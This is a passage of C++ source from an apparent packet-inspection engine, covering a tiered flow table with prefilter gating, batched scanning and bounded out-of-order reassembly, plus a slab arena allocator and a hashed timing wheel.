      quarantined_.erase(quarantine_order_.front());
      quarantine_order_.pop_front();
    }
    quarantined_.insert(s.key);
    quarantine_order_.push_back(s.key);
    evict_slot_core(si);
  }

  // --- scanning ---

  /// Feed bytes through a flow's scan state, wherever it lives.
  template <typename Sink>
  void feed_slot(std::uint32_t si, const std::uint8_t* data, std::size_t size,
                 std::uint64_t base, Sink&& sink) {
    HotSlot& s = slots_[si];
    const EngineT& eng = engine_for_generation(generation_of(si));
    if constexpr (InlineScanEngine<EngineT>) {
      if ((s.flags & kInline) != 0) {
        eng.feed(s.ictx, data, size, base, sink);
        return;
      }
    }
    eng.feed(*cold_[s.cold].ctx, data, size, base, sink);
  }

  /// Consult the engine's prefilter gate for a flow's chunk, wherever its
  /// state lives; kNone when the engine has no gate (the call folds away)
  /// or the set_prefilter() runtime switch is off.
  [[nodiscard]] simd::Gate gate_slot(std::uint32_t si, const std::uint8_t* data,
                                     std::size_t size) {
    if (!prefilter_on_) return simd::Gate::kNone;
    HotSlot& s = slots_[si];
    const EngineT& eng = engine_for_generation(generation_of(si));
    if constexpr (InlineScanEngine<EngineT>) {
      if ((s.flags & kInline) != 0) {
        if constexpr (requires {
                        { eng.prefilter_gate(s.ictx, data, size) }
                          -> std::same_as<simd::Gate>;
                      })
          return eng.prefilter_gate(s.ictx, data, size);
        else
          return simd::Gate::kNone;
      }
    }
    if constexpr (PrefilterEngine<EngineT>)
      return eng.prefilter_gate(*cold_[s.cold].ctx, data, size);
    else
      return simd::Gate::kNone;
  }

  /// Gate-aware feed_slot: degraded-mode admission first, then the
  /// prefilter gate — a skipped chunk advances only the offset (gate skips
  /// also advance the context via tail replay). Contract identical to
  /// FlowInspector::feed_or_skip.
  template <typename Sink>
  void feed_or_skip_slot(std::uint32_t si, const std::uint8_t* data,
                         std::size_t size, std::uint64_t base, Sink&& sink) {
    if (mode_ != ScanMode::kFull && !deep_scan_chunk(slots_[si].key, data, size))
      return;
    const simd::Gate g = gate_slot(si, data, size);
    if (g != simd::Gate::kNone) note_prefilter(g == simd::Gate::kSkip);
    if (g == simd::Gate::kSkip) return;
    feed_slot(si, data, size, base, sink);
  }

  /// Degraded-mode admission, mirroring FlowInspector::deep_scan_chunk.
  bool deep_scan_chunk(const FlowKey& key, const std::uint8_t* data,
                       std::size_t size) {
    if (mode_ == ScanMode::kSampled &&
        (FlowKeyHash{}(key) & sample_mask_) == 0)
      return true;
    const bool hit = probe_chunk(data, size);
    if (mode_ == ScanMode::kPrefilterOnly) {
      if (hit) note_degraded_hit();
      return false;
    }
    return hit;  // kSampled, non-sampled flow: scan only suspicious chunks
  }

  [[nodiscard]] bool probe_chunk(const std::uint8_t* data, std::size_t size) const {
    if constexpr (ProbeEngine<EngineT>) {
      return engine_->prefilter_probe(data, size);
    } else {
      (void)data;
      (void)size;
      return true;  // no probe: cannot prove absence, everything suspicious
    }
  }

  void note_degraded_hit() {
    ++degraded_hits_;
    if (metrics_ != nullptr)
      metrics_->degraded_hits.fetch_add(1, std::memory_order_relaxed);
  }

  void note_prefilter(bool skipped) {
    if (skipped)
      ++prefilter_skips_;
    else
      ++prefilter_passes_;
    if (metrics_ != nullptr) {
      auto& counter = skipped ? metrics_->prefilter_skip : metrics_->prefilter_pass;
      counter.fetch_add(1, std::memory_order_relaxed);
    }
  }

  /// A flow's current automaton state, wherever it lives (profiler
  /// state-visit sampling). Occupied slots without kInline always own an
  /// engaged cold Context — the invariant feed_slot relies on too.
  [[nodiscard]] std::uint32_t slot_state(std::uint32_t si) const {
    const HotSlot& s = slots_[si];
    const EngineT& eng = engine_for_generation(generation_of(si));
    if constexpr (InlineScanEngine<EngineT>) {
      if ((s.flags & kInline) != 0) return eng.context_state(s.ictx);
    }
    return eng.context_state(*cold_[s.cold].ctx);
  }

  template <typename FlowSink>
  void deliver(const Packet& p, FlowSink&& fsink) {
    bump_epoch();
    const std::uint64_t h = FlowKeyHash{}(p.key);
    std::uint32_t si = find_slot(p.key, h);
    if (si == kNoSlot) {
      if (max_flows_ != 0 && live_ >= max_flows_) evict_for_capacity();
      util::fault_maybe_bad_alloc("flow.table.alloc");
      si = create_flow(p.key, h);
    } else {
      slots_[si].last_epoch = epoch_;
      if (generation_active_ && generations_[si] != current_generation_)
        adopt_flow(si);
    }
    HotSlot& s = slots_[si];
    if (p.seq > slot_off(s)) {
      buffer_segment(si, p);  // out of order: hold until the gap fills
      return;
    }
    const auto sink = [&](std::uint32_t id, std::uint64_t end) { fsink(si, id, end); };
    const std::uint64_t skip = slot_off(s) - p.seq;
    if (budget_ticks_ == 0) {
      if (skip < p.length) {
        const std::uint64_t base = slot_off(s);
        feed_or_skip_slot(si, p.payload + skip, p.length - skip, base, sink);
        set_slot_off(s, base + (p.length - skip));
      }
      drain(si, sink);
      return;
    }
    const std::uint64_t t0 = util::rdtsc_now();
    if (skip < p.length) {
      const std::uint64_t base = slot_off(s);
      feed_or_skip_slot(si, p.payload + skip, p.length - skip, base, sink);
      set_slot_off(s, base + (p.length - skip));
    }
    drain(si, sink);
    ticks_[si] += util::rdtsc_now() - t0;
    maybe_quarantine(si);  // may erase the flow — nothing touches it afterwards
  }

  /// Batch delivery: same wave discipline as the flat inspector (at most
  /// one in-order feed per flow per wave; cross-flow work interleaves,
  /// same-flow work never does). Jobs are queued as slot references and the
  /// engine-facing pointer arrays are materialized at flush time, because
  /// inline contexts live in slots that can move while the wave runs.
  template <typename FlowSink, typename DropSink>
  void deliver_batch(const Packet* pkts, std::size_t count, FlowSink&& fsink,
                     DropSink&& dsink) {
    auto& cur = batch_cur_;
    auto& deferred = batch_deferred_;
    cur.clear();
    for (std::size_t i = 0; i < count; ++i) cur.push_back(static_cast<std::uint32_t>(i));

    const auto flush = [&] { flush_jobs(fsink); };

    while (!cur.empty()) {
      ++wave_;
      if (wave_ == 0) wave_ = 1;  // 0 is the fresh-slot sentinel
      deferred.clear();
      for (const std::uint32_t idx : cur) {
        const Packet& p = pkts[idx];
        if (is_quarantined(p.key)) {
          ++quarantined_packets_;
          dsink(p);
          continue;
        }
        bump_epoch();
        const std::uint64_t h = FlowKeyHash{}(p.key);
        std::uint32_t si = find_slot(p.key, h);
        if (si == kNoSlot) {
          // A capacity eviction can tear down a flow that still has a
          // queued job: flush queued work first (kick/grow moves are safe —
          // they patch the queue — but eviction destroys state).
          if (max_flows_ != 0 && live_ >= max_flows_) {
            if (!batch_jobs_.empty()) flush();
            evict_for_capacity();
          }
          util::fault_maybe_bad_alloc("flow.table.alloc");
          si = create_flow(p.key, h);
        } else {
          slots_[si].last_epoch = epoch_;
          if (generation_active_ && generations_[si] != current_generation_)
            adopt_flow(si);
        }
        HotSlot& s = slots_[si];
        if (s.batch_stamp == wave_) {
          deferred.push_back(idx);  // same flow already fed this wave
          continue;
        }
        if (p.seq > slot_off(s)) {
          buffer_segment(si, p);
          continue;
        }
        const std::uint64_t skip = slot_off(s) - p.seq;
        if (skip >= p.length) continue;  // fully retransmitted bytes
        s.batch_stamp = wave_;
        const std::uint8_t* data = p.payload + skip;
        const std::size_t len = p.length - skip;
        const std::uint64_t base = slot_off(s);
        if (mode_ != ScanMode::kFull && !deep_scan_chunk(p.key, data, len)) {
          // Degraded skip: no job, no context advance — the offset moves and
          // any gap the skipped bytes filled still drains.
          set_slot_off(s, base + len);
          const auto sink = [&](std::uint32_t id, std::uint64_t end) {
            fsink(si, id, end);
          };
          if (budget_ticks_ == 0) {
            drain(si, sink);
          } else {
            const std::uint64_t t0 = util::rdtsc_now();
            drain(si, sink);
            ticks_[si] += util::rdtsc_now() - t0;
            maybe_quarantine(si);  // may erase the flow — nothing touches it after
          }
          continue;
        }
        // Gate at job-materialization time (same rationale as the flat
        // inspector): a proven-clean chunk never becomes a job.
        const simd::Gate g = gate_slot(si, data, len);
        if (g != simd::Gate::kNone) note_prefilter(g == simd::Gate::kSkip);
        if (g == simd::Gate::kSkip) {
          set_slot_off(s, base + len);
          // No job this wave, so flush() won't drain this flow — but the
          // skipped bytes may have filled a gap; drain here instead.
          const auto sink = [&](std::uint32_t id, std::uint64_t end) {
            fsink(si, id, end);
          };
          if (budget_ticks_ == 0) {
            drain(si, sink);
          } else {
            const std::uint64_t t0 = util::rdtsc_now();
            drain(si, sink);
            ticks_[si] += util::rdtsc_now() - t0;
            maybe_quarantine(si);  // may erase the flow — nothing touches it after
          }
          continue;
        }
        batch_jobs_.push_back(BatchJob{si, data, len, base});
        set_slot_off(s, base + len);
      }
      flush();
      cur.swap(deferred);
    }
  }

  /// Materialize the queued jobs into engine feed jobs — inline-state jobs
  /// and heap-context jobs separately, since they advance through different
  /// feed_many instantiations — run them, then drain and (when budgeted)
  /// settle per-flow CPU accounts. Right after a kDrainOld swap a burst can
  /// mix engine generations; those transient bursts run per-flow sequential
  /// feeds on each flow's own engine rather than the interleaved kernel.
  template <typename FlowSink>
  void flush_jobs(FlowSink& fsink) {
    if (batch_jobs_.empty()) return;
    inline_jobs_.clear();
    inline_job_slots_.clear();
    ctx_jobs_.clear();
    ctx_job_slots_.clear();
    bool mixed = false;
    const std::uint64_t g0 = generation_of(batch_jobs_[0].slot);
    for (const auto& j : batch_jobs_) {
      if (generation_active_ && generation_of(j.slot) != g0) mixed = true;
      HotSlot& s = slots_[j.slot];
      if constexpr (InlineScanEngine<EngineT>) {
        if ((s.flags & kInline) != 0) {
          inline_jobs_.push_back({&s.ictx, j.data, j.size, j.base});
          inline_job_slots_.push_back(j.slot);
          continue;
        }
      }
      ctx_jobs_.push_back({&*cold_[s.cold].ctx, j.data, j.size, j.base});
      ctx_job_slots_.push_back(j.slot);
    }

    const auto feed_all = [&] {
      if (mixed) {
        if constexpr (InlineScanEngine<EngineT>) {
          for (std::size_t i = 0; i < inline_jobs_.size(); ++i) {
            const std::uint32_t si = inline_job_slots_[i];
            engine_for_generation(generation_of(si))
                .feed(*inline_jobs_[i].ctx, inline_jobs_[i].data, inline_jobs_[i].size,
                      inline_jobs_[i].base,
                      [&](std::uint32_t id, std::uint64_t end) { fsink(si, id, end); });
          }
        }
        for (std::size_t i = 0; i < ctx_jobs_.size(); ++i) {
          const std::uint32_t si = ctx_job_slots_[i];
          engine_for_generation(generation_of(si))
              .feed(*ctx_jobs_[i].ctx, ctx_jobs_[i].data, ctx_jobs_[i].size,
                    ctx_jobs_[i].base,
                    [&](std::uint32_t id, std::uint64_t end) { fsink(si, id, end); });
        }
        return;
      }
      const EngineT& eng = engine_for_generation(g0);
      if (!inline_jobs_.empty()) {
        if constexpr (InlineBatchScanEngine<EngineT>) {
          eng.feed_many(
              inline_jobs_.data(), inline_jobs_.size(),
              [&](std::size_t j, std::uint32_t id, std::uint64_t end) {
                fsink(inline_job_slots_[j], id, end);
              },
              batch_lanes_);
        } else if constexpr (InlineScanEngine<EngineT>) {
          for (std::size_t i = 0; i < inline_jobs_.size(); ++i) {
            const std::uint32_t si = inline_job_slots_[i];
            eng.feed(*inline_jobs_[i].ctx, inline_jobs_[i].data, inline_jobs_[i].size,
                     inline_jobs_[i].base,
                     [&](std::uint32_t id, std::uint64_t end) { fsink(si, id, end); });
          }
        }
      }
      if (!ctx_jobs_.empty()) {
        if constexpr (BatchScanEngine<EngineT>) {
          eng.feed_many(
              ctx_jobs_.data(), ctx_jobs_.size(),
              [&](std::size_t j, std::uint32_t id, std::uint64_t end) {
                fsink(ctx_job_slots_[j], id, end);
              },
              batch_lanes_);
        } else {
          for (std::size_t i = 0; i < ctx_jobs_.size(); ++i) {
            const std::uint32_t si = ctx_job_slots_[i];
            eng.feed(*ctx_jobs_[i].ctx, ctx_jobs_[i].data, ctx_jobs_[i].size,
                     ctx_jobs_[i].base,
                     [&](std::uint32_t id, std::uint64_t end) { fsink(si, id, end); });
          }
        }
      }
    };

    if (budget_ticks_ == 0) {
      feed_all();
      for (const auto& j : batch_jobs_)
        drain(j.slot, [&, si = j.slot](std::uint32_t id, std::uint64_t end) {
          fsink(si, id, end);
        });
    } else {
      // Budgeted: the interleaved kernel runs many flows at once, so its
      // time is apportioned to flows by bytes fed; drains are per-flow and
      // timed exactly. Quarantine checks run last because they erase flows
      // the job list still references.
      std::uint64_t total_bytes = 0;
      for (const auto& j : batch_jobs_) total_bytes += j.size;
      const std::uint64_t t0 = util::rdtsc_now();
      feed_all();
      const std::uint64_t feed_ticks = util::rdtsc_now() - t0;
      for (const auto& j : batch_jobs_)
        ticks_[j.slot] +=
            total_bytes == 0 ? 0 : feed_ticks * j.size / total_bytes;
      for (const auto& j : batch_jobs_) {
        const std::uint64_t d0 = util::rdtsc_now();
        drain(j.slot, [&, si = j.slot](std::uint32_t id, std::uint64_t end) {
          fsink(si, id, end);
        });
        ticks_[j.slot] += util::rdtsc_now() - d0;
      }
      for (const auto& j : batch_jobs_) maybe_quarantine(j.slot);
    }
    batch_jobs_.clear();
  }

  // --- bounded out-of-order reassembly (mirrors FlowInspector) ---

  void buffer_segment(std::uint32_t si, const Packet& p) {
    if (p.length == 0) return;
    util::fault_maybe_bad_alloc("flow.reassembly.alloc");
    HotSlot& s = slots_[si];
    if (s.cold == kNoRecord) s.cold = cold_.alloc();  // pending-only record
    ColdRecord& rec = cold_[s.cold];
    auto it = pending_lower_bound(rec.pending, p.seq);
    if (it != rec.pending.end() && it->seq == p.seq) {
      // Duplicate sequence number: keep whichever segment carries more
      // data; only the net growth counts against the budget.
      if (it->bytes.size() >= p.length) return;
      const std::uint64_t growth = p.length - it->bytes.size();
      while (max_pending_ != 0 && rec.pending_bytes + growth > max_pending_ &&
             rec.pending.size() > 1) {
        drop_oldest_pending(rec, p.seq);
        it = pending_lower_bound(rec.pending, p.seq);  // drops shift the vector
      }
      if (max_pending_ != 0 && rec.pending_bytes + growth > max_pending_) {
        ++reassembly_dropped_;
        return;
      }
      it->bytes.assign(p.payload, p.payload + p.length);
      it->arrival = ++arrival_tick_;
      rec.pending_bytes += growth;
      total_pending_ += growth;
      return;
    }
    if (max_pending_ != 0 && p.length > max_pending_) {
      // A single segment larger than the whole budget can never be held.
      ++reassembly_dropped_;
      release_cold_if_empty(s);
      return;
    }
    while (max_pending_ != 0 && rec.pending_bytes + p.length > max_pending_) {
      drop_oldest_pending(rec);
      it = pending_lower_bound(rec.pending, p.seq);
    }
    it = rec.pending.emplace(it, PendingSegment{p.seq, ++arrival_tick_, {}});
    it->bytes.assign(p.payload, p.payload + p.length);
    rec.pending_bytes += p.length;
    total_pending_ += p.length;
  }

  void drop_oldest_pending(ColdRecord& rec,
                           std::uint64_t keep_seq = ~std::uint64_t{0}) {
    auto oldest = rec.pending.end();
    for (auto it = rec.pending.begin(); it != rec.pending.end(); ++it) {
      if (it->seq == keep_seq) continue;
      if (oldest == rec.pending.end() || it->arrival < oldest->arrival) oldest = it;
    }
    if (oldest == rec.pending.end()) return;
    rec.pending_bytes -= oldest->bytes.size();
    total_pending_ -= oldest->bytes.size();
    rec.pending.erase(oldest);
    ++reassembly_dropped_;
  }

  /// A reorder-only record whose buffer just emptied goes back to the slab:
  /// the flow is pure-hot again.
  void release_cold_if_empty(HotSlot& s) {
    if (s.cold == kNoRecord) return;
    ColdRecord& rec = cold_[s.cold];
    if (rec.pending.empty() && !rec.ctx.has_value()) {
      cold_.free(s.cold);
      s.cold = kNoRecord;
    }
  }

  template <typename Sink>
  void drain(std::uint32_t si, Sink&& sink) {
    HotSlot& s = slots_[si];
    if (s.cold == kNoRecord) return;
    ColdRecord& rec = cold_[s.cold];
    std::size_t consumed = 0;
    while (consumed < rec.pending.size()) {
      PendingSegment& seg = rec.pending[consumed];
      const std::uint64_t off = slot_off(s);
      if (seg.seq > off) break;
      const std::uint64_t skip = off - seg.seq;
      if (skip < seg.bytes.size()) {
        feed_or_skip_slot(si, seg.bytes.data() + skip, seg.bytes.size() - skip,
                          off, sink);
        set_slot_off(s, off + (seg.bytes.size() - skip));
      }
      rec.pending_bytes -= seg.bytes.size();
      total_pending_ -= seg.bytes.size();
      ++consumed;
    }
    if (consumed != 0)
      rec.pending.erase(rec.pending.begin(),
                        rec.pending.begin() + static_cast<std::ptrdiff_t>(consumed));
    release_cold_if_empty(s);
  }

  // --- telemetry ---

  void store_gauges(obs::ShardMetrics& m) {
    m.flows.store(live_, std::memory_order_relaxed);
    m.evictions.store(evicted_, std::memory_order_relaxed);
    m.reassembly_drops.store(reassembly_dropped_, std::memory_order_relaxed);
    m.reassembly_pending_bytes.store(total_pending_, std::memory_order_relaxed);
    m.flow_hot_slots.store(slots_.size(), std::memory_order_relaxed);
    m.flow_cold_bytes.store(cold_bytes(), std::memory_order_relaxed);
    if (live_ != 0) m.bytes_per_flow.record((hot_bytes() + cold_bytes()) / live_);
  }

  const EngineT* engine_;  ///< ONE engine for all flows (never per-flow)
  std::uint64_t current_generation_ = 0;
  bool generation_active_ = false;  ///< adopt_engine() was called at least once
  bool inline_ok_ = false;  ///< current engine keeps new flows' state inline
  std::shared_ptr<const void> current_pin_;
  std::vector<Retired> retired_;
  std::size_t max_flows_ = 0;
  std::size_t max_pending_ = kDefaultMaxPendingBytes;
  std::uint32_t idle_ttl_ = 0;  ///< 0 = idle eviction off
  std::uint64_t evicted_ = 0;       ///< capacity evictions (max_flows)
  std::uint64_t idle_evicted_ = 0;  ///< TTL evictions
  std::uint64_t reassembly_dropped_ = 0;
  std::uint64_t total_pending_ = 0;
  std::uint64_t arrival_tick_ = 0;
  std::uint32_t epoch_ = 0;  ///< per-shard packet epoch (wraps)
  std::uint64_t cpu_budget_ns_ = 0;
  std::uint64_t budget_ticks_ = 0;
  std::uint64_t flows_quarantined_ = 0;
  std::uint64_t quarantined_packets_ = 0;
  std::uint64_t prefilter_skips_ = 0;   ///< gated chunks, scan avoided
  std::uint64_t prefilter_passes_ = 0;  ///< gate-eligible chunks scanned
  bool prefilter_on_ = true;            ///< set_prefilter() runtime switch
  ScanMode mode_ = ScanMode::kFull;     ///< degradation-ladder rung (§14)
  std::uint64_t sample_mask_ = 7;       ///< L1: 1-in-(mask+1) flows exact
  std::uint64_t degraded_hits_ = 0;     ///< L2 probe-positive detections
  std::unordered_set<FlowKey, FlowKeyHash> quarantined_;
  std::deque<FlowKey> quarantine_order_;
  obs::MetricsRegistry* registry_ = nullptr;
  obs::ShardMetrics* metrics_ = nullptr;
  double ns_per_tick_ = 0.0;
  obs::Profiler* profiler_ = nullptr;  ///< sampled cost profiler (optional)
  std::uint64_t profile_mask_ = 0;     ///< profiler_->sample_mask(), cached
  std::uint64_t profile_tick_ = 0;     ///< scan units since attach
  std::vector<std::uint32_t> profile_ids_;  ///< sampled unit's match ids
  std::size_t batch_lanes_ = scan::kDefaultLanes;
  std::uint16_t wave_ = 0;

  // Hot tier.
  std::size_t nbuckets_ = 0;
  std::size_t live_ = 0;
  std::vector<HotSlot> slots_;  ///< nbuckets_ * kBucketWidth
  /// Per-slot engine generation; allocated lazily at the first
  /// adopt_engine() so single-ruleset deployments pay zero bytes for it.
  std::vector<std::uint64_t> generations_;
  /// Per-slot cumulative scan ticks; allocated only when a CPU budget is set.
  std::vector<std::uint64_t> ticks_;
  TimingWheel wheel_;

  // Cold tier.
  SlabArena<ColdRecord> cold_;

  // Scratch reused across packet_batch() calls (inspector is one-thread).
  std::vector<BatchJob> batch_jobs_;
  std::vector<std::uint32_t> batch_cur_;
  std::vector<std::uint32_t> batch_deferred_;
  std::vector<scan::FeedJob<InlineState>> inline_jobs_;
  std::vector<std::uint32_t> inline_job_slots_;
  std::vector<scan::FeedJob<Context>> ctx_jobs_;
  std::vector<std::uint32_t> ctx_job_slots_;
  std::vector<FlowKey> grow_keys_;
};

}  // namespace mfa::flow
