// Per-shard slab arena for cold-tier flow records (DESIGN.md Sec. 11).
//
// Cold records (heap engine contexts, reassembly pending lists) are needed
// only for the minority of flows that reorder or run a big-state engine.
// Allocating them from fixed-size slabs instead of the global heap gives
// (a) zero per-record malloc header overhead, (b) stable uint32 handles the
// hot tier can store in 4 bytes instead of an 8-byte pointer, and (c) an
// exact allocated_bytes() figure for the mfa_flow_cold_bytes gauge.
//
// Handles stay valid across alloc/free of other records (slabs never move).
// Single-threaded by design: each pipeline shard owns one arena.
#pragma once

#include <cassert>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <new>
#include <utility>
#include <vector>

namespace mfa::flow {

inline constexpr std::uint32_t kNoRecord = 0xffffffffU;

template <typename T, std::size_t kSlabItems = 256>
class SlabArena {
 public:
  SlabArena() = default;
  SlabArena(const SlabArena&) = delete;
  SlabArena& operator=(const SlabArena&) = delete;
  ~SlabArena() { clear(); }

  /// Construct a T and return its handle. O(1); grows by one slab when the
  /// free list is empty.
  template <typename... Args>
  std::uint32_t alloc(Args&&... args) {
    if (free_head_ == kNoRecord) grow();
    const std::uint32_t idx = free_head_;
    free_head_ = free_next_[idx];
    free_next_[idx] = kLiveMark;
    ::new (address(idx)) T(std::forward<Args>(args)...);
    ++live_;
    return idx;
  }

  /// Destroy the record behind `idx` and recycle its storage.
  void free(std::uint32_t idx) {
    assert(free_next_[idx] == kLiveMark && "double free / stale handle");
    (*this)[idx].~T();
    free_next_[idx] = free_head_;
    free_head_ = idx;
    --live_;
  }

  [[nodiscard]] T& operator[](std::uint32_t idx) {
    return *std::launder(reinterpret_cast<T*>(address(idx)));
  }
  [[nodiscard]] const T& operator[](std::uint32_t idx) const {
    return *std::launder(reinterpret_cast<const T*>(
        const_cast<SlabArena*>(this)->address(idx)));
  }

  /// Records currently live.
  [[nodiscard]] std::size_t live() const { return live_; }

  /// Bytes of slab storage owned (live or recycled) — the cold tier's
  /// structural footprint, independent of what records allocate internally.
  [[nodiscard]] std::size_t allocated_bytes() const {
    return slabs_.size() * sizeof(Slab) +
           free_next_.capacity() * sizeof(std::uint32_t);
  }

  /// Destroy every live record and release all slabs.
  void clear() {
    for (std::uint32_t i = 0; i < free_next_.size(); ++i)
      if (free_next_[i] == kLiveMark) (*this)[i].~T();
    slabs_.clear();
    free_next_.clear();
    free_head_ = kNoRecord;
    live_ = 0;
  }

 private:
  static constexpr std::uint32_t kLiveMark = 0xfffffffeU;

  struct Slab {
    alignas(T) unsigned char storage[kSlabItems * sizeof(T)];
  };

  [[nodiscard]] void* address(std::uint32_t idx) {
    return slabs_[idx / kSlabItems]->storage + (idx % kSlabItems) * sizeof(T);
  }

  void grow() {
    const std::uint32_t base = static_cast<std::uint32_t>(slabs_.size() * kSlabItems);
    slabs_.push_back(std::make_unique<Slab>());
    free_next_.resize(base + kSlabItems);
    // Thread the new slab onto the free list, last item first so handles
    // come out in ascending order.
    for (std::uint32_t i = kSlabItems; i-- > 0;) {
      free_next_[base + i] = free_head_;
      free_head_ = base + i;
    }
  }

  std::vector<std::unique_ptr<Slab>> slabs_;
  std::vector<std::uint32_t> free_next_;  ///< per-handle free chain / live mark
  std::uint32_t free_head_ = kNoRecord;
  std::size_t live_ = 0;
};

}  // namespace mfa::flow
