// Hashed timing wheel over a per-shard packet epoch (DESIGN.md Sec. 11).
//
// Replaces the flat inspector's intrusive LRU for the tiered flow table:
// instead of relinking a list node on every packet, a touched flow only
// stores its new last-active epoch in its hot slot, and the wheel holds one
// lazily-validated entry per flow. Entries surface in approximate expiry
// order; the owner's callback checks the authoritative last-active epoch
// and either consumes the entry (drop / evict) or reschedules it — so a
// re-touched flow costs one reschedule when its old entry surfaces, never
// per-packet work. All operations are amortized O(1).
//
// Epochs are uint32 and wrap; all cursor arithmetic is modular, so rollover
// only requires that no entry is scheduled more than half the epoch space
// ahead (horizons here are thousands of epochs, nowhere near 2^31).
#pragma once

#include <algorithm>
#include <cstddef>
#include <cstdint>
#include <utility>
#include <vector>

namespace mfa::flow {

class TimingWheel {
 public:
  /// Callback verdicts for surfaced entries: kConsume removes the entry and
  /// (in pop_oldest) ends the search — the caller took the item. kDrop
  /// removes the entry but keeps searching — the entry was a stale ghost
  /// for an already-gone flow. Any other value reschedules at that epoch.
  static constexpr std::int64_t kConsume = -1;
  static constexpr std::int64_t kDrop = -2;

  /// `bucket_bits` sets the wheel span: 2^bucket_bits buckets, each
  /// covering 2^granule_bits epochs. Defaults span 256 * 4 = 1024 epochs
  /// per turn; entries beyond one turn simply surface early and get
  /// rescheduled by the validation callback.
  explicit TimingWheel(std::uint32_t bucket_bits = 8, std::uint32_t granule_bits = 2)
      : granule_bits_(granule_bits),
        mask_((1U << bucket_bits) - 1),
        buckets_(std::size_t{1} << bucket_bits) {}

  /// Remember `item` for the bucket covering `expire_epoch`.
  void schedule(std::uint32_t item, std::uint32_t expire_epoch) {
    buckets_[bucket_of(expire_epoch)].push_back(item);
    ++pending_;
  }

  /// Entries currently held (including stale ghosts not yet surfaced).
  [[nodiscard]] std::size_t pending() const { return pending_; }

  /// Move the cursor to `now`, surfacing every entry in the buckets the
  /// cursor passes. cb(item) -> kConsume to remove, or an epoch to
  /// reschedule at. Amortized O(entries surfaced).
  template <typename Cb>
  void advance(std::uint32_t now, Cb&& cb) {
    // Modular distance in buckets; a full turn (or more) drains everything.
    const std::uint32_t steps =
        std::min<std::uint32_t>((now >> granule_bits_) - (cursor_ >> granule_bits_),
                                mask_ + 1);
    for (std::uint32_t s = 0; s < steps; ++s) {
      drain_bucket(bucket_of(cursor_), cb);
      cursor_ += (1U << granule_bits_);
    }
    cursor_ = now;
  }

  /// Surface entries in approximate expiry order starting at the cursor,
  /// regardless of the current epoch, until cb consumes one or `max_pops`
  /// entries have been offered. Used for victim selection when the flow
  /// table is at capacity: the oldest-scheduled (longest-untouched) flows
  /// surface first. Returns true if an entry was consumed.
  template <typename Cb>
  bool pop_oldest(std::size_t max_pops, Cb&& cb) {
    if (pending_ == 0) return false;
    std::size_t offered = 0;
    // Scan at most one full turn of buckets past the cursor.
    for (std::uint32_t b = 0; b <= mask_ && offered < max_pops; ++b) {
      auto& bucket = buckets_[(bucket_of(cursor_) + b) & mask_];
      while (!bucket.empty() && offered < max_pops) {
        // Swap-remove the front before the callback: a reschedule may push
        // into this same bucket (it lands at the back and is re-examined,
        // bounded by max_pops).
        const std::uint32_t item = bucket.front();
        bucket.front() = bucket.back();
        bucket.pop_back();
        --pending_;
        ++offered;
        const std::int64_t verdict = cb(item);
        if (verdict == kConsume) return true;
        if (verdict == kDrop) continue;
        schedule(item, static_cast<std::uint32_t>(verdict));
      }
    }
    return false;
  }

  void clear() {
    for (auto& b : buckets_) b.clear();
    pending_ = 0;
    cursor_ = 0;
  }

  /// Structural heap footprint (for bytes/flow accounting).
  [[nodiscard]] std::size_t allocated_bytes() const {
    std::size_t total = buckets_.capacity() * sizeof(buckets_[0]);
    for (const auto& b : buckets_) total += b.capacity() * sizeof(std::uint32_t);
    return total;
  }

 private:
  [[nodiscard]] std::uint32_t bucket_of(std::uint32_t epoch) const {
    return (epoch >> granule_bits_) & mask_;
  }

  template <typename Cb>
  void drain_bucket(std::uint32_t index, Cb& cb) {
    auto& bucket = buckets_[index];
    if (bucket.empty()) return;
    scratch_.swap(bucket);  // reschedules may target this same bucket
    pending_ -= scratch_.size();
    for (const std::uint32_t item : scratch_) {
      const std::int64_t verdict = cb(item);
      if (verdict != kConsume && verdict != kDrop)
        schedule(item, static_cast<std::uint32_t>(verdict));
    }
    scratch_.clear();
  }

  std::uint32_t granule_bits_;
  std::uint32_t mask_;
  std::uint32_t cursor_ = 0;  ///< epoch the wheel has advanced to
  std::size_t pending_ = 0;
  std::vector<std::vector<std::uint32_t>> buckets_;
  std::vector<std::uint32_t> scratch_;
};

}  // namespace mfa::flow
