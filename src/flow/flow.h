// Flow substrate: packets, 5-tuple flow keys, and a multiplexing inspector.
//
// Paper Sec. III-B: "To handle many flows arriving in multiplexed fashion,
// all that is necessary is to keep a (q, m) pair for each flow". The
// FlowInspector below is that mechanism under the Engine/Context split: it
// holds ONE shared immutable Engine and stores only a small per-flow
// Context (the (q, m) pair) plus reassembly bookkeeping in its flow table.
// It restores the context when a packet of that flow arrives and performs
// in-order reassembly (buffering out-of-order segments, bounded per flow)
// so engines always see a contiguous byte stream.
#pragma once

#include <algorithm>
#include <concepts>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <unordered_map>
#include <unordered_set>
#include <utility>
#include <vector>

#include "obs/metrics.h"
#include "obs/profile.h"
#include "simd/prefilter.h"
#include "util/faultpoint.h"
#include "util/interleave.h"
#include "util/timing.h"

namespace mfa::flow {

struct FlowKey {
  std::uint32_t src_ip = 0;
  std::uint32_t dst_ip = 0;
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;
  std::uint8_t proto = 6;  // TCP by default

  friend bool operator==(const FlowKey&, const FlowKey&) = default;
};

struct FlowKeyHash {
  std::size_t operator()(const FlowKey& k) const {
    std::uint64_t h = 0xcbf29ce484222325ULL;
    const auto mix = [&h](std::uint64_t v) {
      h ^= v;
      h *= 0x100000001b3ULL;
    };
    mix(k.src_ip);
    mix(k.dst_ip);
    mix((std::uint64_t{k.src_port} << 32) | (std::uint64_t{k.dst_port} << 16) | k.proto);
    return static_cast<std::size_t>(h);
  }
};

/// One packet's payload, referencing bytes owned by a Trace.
struct Packet {
  FlowKey key;
  std::uint64_t seq = 0;  ///< byte offset of payload[0] within the flow
  const std::uint8_t* payload = nullptr;
  std::uint32_t length = 0;
  /// Latency-span stamp (DESIGN.md Sec. 12): TSC at pipeline submit for
  /// the sampled 1-in-N packets, 0 for the rest. Trails the aggregate
  /// fields so existing {key, seq, payload, length} initializers compile
  /// unchanged.
  std::uint64_t submit_tsc = 0;
};

/// Default per-flow cap on buffered out-of-order bytes: a hostile trace
/// that opens holes and floods segments behind them cannot grow a flow's
/// reassembly buffer past this (oldest-buffered segments are dropped).
inline constexpr std::size_t kDefaultMaxPendingBytes = 256 * 1024;

/// One buffered out-of-order segment. Flows keep these in a small vector
